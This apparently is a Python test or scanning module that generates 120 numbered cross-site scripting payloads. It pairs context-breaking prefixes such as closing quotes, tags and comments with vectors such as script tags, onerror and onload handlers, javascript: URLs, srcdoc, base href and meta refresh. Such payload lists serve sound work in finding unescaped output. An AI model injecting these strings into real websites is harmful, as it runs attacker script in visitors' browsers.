"""Text that would become a script where it is written without being escaped."""

from itertools import product

BREAKS = ("", '"', "'", "'\"", "</title>", "</textarea>", "</script>", "</option></select>", "-->", "</td></table>")
"""Ways out of where the text stands: an attribute, an element, a comment."""
VECTORS = (
    "<script>xss({n})</script>",
    "<img src=x onerror=xss({n})>",
    "<svg onload=xss({n})>",
    "<xss{n} id=x tabindex=1>",
    "<a href=javascript:xss({n})>a</a>",
    "<a href='&#106;avascript:xss({n})'>a</a>",
    "<iframe srcdoc='<b>xss{n}</b>'></iframe>",
    "<body onpageshow=xss({n})>",
    "<base href=//xss{n}.example>",
    "<form action=javascript:xss({n})><button>b</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:xss({n})'>",
)
IN_A_TAG = ("", "x", "x/", '"', "'", "'\"", '"/', "'/", '" autofocus', "' autofocus")
"""Ways on inside an element that is open already."""
HANDLER = " onmouseover=xss({n}) x="
PAYLOADS = tuple(
    way_out + vector.format(n=n)
    for n, (way_out, vector) in enumerate([*product(BREAKS, VECTORS), *product(IN_A_TAG, [HANDLER])], start=100)
)
"""A hundred and twenty, each with its number."""
